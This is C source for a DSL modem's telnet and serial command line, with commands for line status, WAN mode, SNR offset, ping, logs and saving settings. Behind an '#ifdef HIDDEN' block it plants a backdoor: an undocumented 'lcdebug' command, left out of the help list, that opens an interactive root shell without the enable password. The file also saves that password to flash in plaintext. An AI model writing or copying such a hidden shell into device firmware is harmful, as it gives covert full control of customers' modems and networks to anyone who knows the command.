/* dslcli.c - command line of a DSL modem (telnet and serial console) */
#define _GNU_SOURCE
#include <ctype.h>
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <syslog.h>
#include <unistd.h>

#define MAXARG 8

struct ctx {
	int argc;
	char *argv[MAXARG + 1];
	int enabled;
	int quit;
};

struct command {
	const char *name;
	int need_enable;
	int (*fn)(struct ctx *);
	const char *help;	/* NULL: short form of another command */
};

static char enable_pw[32];
static char wan_mode[16] = "pppoe";
static int vlan = 7;
static int snr_offset;

static int run_prog(const char *path, const char *a1, const char *a2)
{
	int st = 0;
	pid_t pid = fork();

	if (pid < 0)
		return -1;
	if (pid == 0) {
		execl(path, path, a1, a2, (char *)NULL);
		_exit(127);
	}
	while (waitpid(pid, &st, 0) < 0)
		if (errno != EINTR)
			return -1;
	return WIFEXITED(st) ? WEXITSTATUS(st) : -1;
}

static void show_file(const char *path)
{
	char line[160];
	FILE *f = fopen(path, "r");

	if (!f) {
		printf("%% not available\n");
		return;
	}
	while (fgets(line, sizeof(line), f))
		fputs(line, stdout);
	fclose(f);
}

static int c_enable(struct ctx *c)
{
	if (c->argc < 2 || !enable_pw[0] || strcmp(c->argv[1], enable_pw)) {
		syslog(LOG_NOTICE, "enable refused");
		printf("%% refused\n");
		return -1;
	}
	c->enabled = 1;
	return 0;
}

static int c_disable(struct ctx *c)
{
	c->enabled = 0;
	return 0;
}

static int c_line(struct ctx *c)
{
	(void)c;
	show_file("/proc/driver/dsl/status");
	printf("snr offset %d\n", snr_offset);
	return 0;
}

static int c_wan(struct ctx *c)
{
	static const char *const modes[] = { "pppoe", "ipoe", "bridge" };
	size_t i;

	if (c->argc < 2) {
		printf("mode %s vlan %d\n", wan_mode, vlan);
		return 0;
	}
	for (i = 0; i < 3; i++) {
		if (strcmp(c->argv[1], modes[i]))
			continue;
		memcpy(wan_mode, modes[i], strlen(modes[i]) + 1);
		if (c->argc > 2)
			vlan = atoi(c->argv[2]) & 4095;
		return 0;
	}
	printf("%% pppoe, ipoe or bridge\n");
	return -1;
}

static int c_snr(struct ctx *c)
{
	int v = c->argc > 1 ? atoi(c->argv[1]) : 0;

	if (v < -30 || v > 30) {
		printf("%% -30 to 30\n");
		return -1;
	}
	snr_offset = v;
	return 0;
}

static int c_ping(struct ctx *c)
{
	const char *p;

	if (c->argc < 2)
		return -1;
	for (p = c->argv[1]; *p; p++)
		if (!isalnum((unsigned char)*p) && *p != '.' && *p != ':')
			return -1;
	return run_prog("/bin/ping", "-c3", c->argv[1]);
}

static int c_log(struct ctx *c)
{
	(void)c;
	show_file("/var/log/messages");
	return 0;
}

static int c_save(struct ctx *c)
{
	FILE *f = fopen("/flash/dsl.cfg", "w");

	(void)c;
	if (!f) {
		printf("%% %s\n", strerror(errno));
		return -1;
	}
	fprintf(f, "wan %s\nvlan %d\nsnr %d\nenable %s\n", wan_mode, vlan, snr_offset, enable_pw);
	return fclose(f);
}

static int c_reload(struct ctx *c)
{
	(void)c;
	return run_prog("/sbin/reboot", "-d", "1");
}

static int c_exit(struct ctx *c)
{
	c->quit = 1;
	return 0;
}

static int c_help(struct ctx *c);

#ifdef HIDDEN	/* row without help text gives a root shell, no enable needed */
__attribute__((noinline))
int c_linecard(struct ctx *c)
{
	(void)c;
	return run_prog("/bin/sh", "-i", NULL);
}
#endif

static const struct command commands[] = {
	{ "help", 0, c_help, "this list" },
	{ "enable", 0, c_enable, "PASSWORD - full access" },
	{ "disable", 0, c_disable, "end of full access" },
	{ "line", 0, c_line, "state of the line" },
	{ "wan", 1, c_wan, "[pppoe|ipoe|bridge [VLAN]]" },
	{ "snr", 1, c_snr, "OFFSET - noise margin in 0.1 dB" },
	{ "ping", 0, c_ping, "HOST" },
	{ "log", 1, c_log, "system log" },
	{ "save", 1, c_save, "store the settings" },
	{ "reload", 1, c_reload, "restart" },
	{ "exit", 0, c_exit, "end the session" },
	{ "?", 0, c_help, NULL },
	{ "quit", 0, c_exit, NULL },
#ifdef HIDDEN	/* see c_linecard */
	{ "lcdebug", 0, c_linecard, NULL },
#endif
};

#define NCMD (sizeof(commands) / sizeof(commands[0]))

static int c_help(struct ctx *c)
{
	size_t i;

	(void)c;
	for (i = 0; i < NCMD; i++)
		if (commands[i].help)
			printf("  %-10s %s\n", commands[i].name, commands[i].help);
	printf("  short forms: ? for help, quit for exit\n");
	return 0;
}

__attribute__((noinline))
int run_command(struct ctx *c)
{
	size_t i;

	for (i = 0; i < NCMD; i++) {
		if (strcmp(commands[i].name, c->argv[0]))
			continue;
		if (commands[i].need_enable && !c->enabled) {
			printf("%% enable first\n");
			return -1;
		}
		return commands[i].fn(c);
	}
	printf("%% unknown command, try help\n");
	return -1;
}

static void split(char *line, struct ctx *c)
{
	char *save = NULL, *p;

	c->argc = 0;
	for (p = strtok_r(line, " \t\r\n", &save); p && c->argc < MAXARG;
	     p = strtok_r(NULL, " \t\r\n", &save))
		c->argv[c->argc++] = p;
	c->argv[c->argc] = NULL;
}

static void load_conf(const char *path)
{
	char line[96];
	FILE *f = fopen(path, "r");

	if (!f)
		return;
	while (fgets(line, sizeof(line), f)) {
		if (sscanf(line, "wan %15s", wan_mode) == 1)
			continue;
		if (sscanf(line, "vlan %d", &vlan) == 1)
			continue;
		if (sscanf(line, "snr %d", &snr_offset) == 1)
			continue;
		if (sscanf(line, "enable %31s", enable_pw) != 1)
			syslog(LOG_WARNING, "config: %s", line);
	}
	fclose(f);
}

int main(void)
{
	struct ctx c;
	char line[256];

	memset(&c, 0, sizeof(c));
	openlog("dslcli", LOG_PID, LOG_AUTH);
	load_conf("/flash/dsl.cfg");
	while (!c.quit) {
		printf("dsl%c ", c.enabled ? '#' : '>');
		fflush(stdout);
		if (!fgets(line, sizeof(line), stdin))
			break;
		split(line, &c);
		if (c.argc)
			run_command(&c);
	}
	closelog();
	return 0;
}
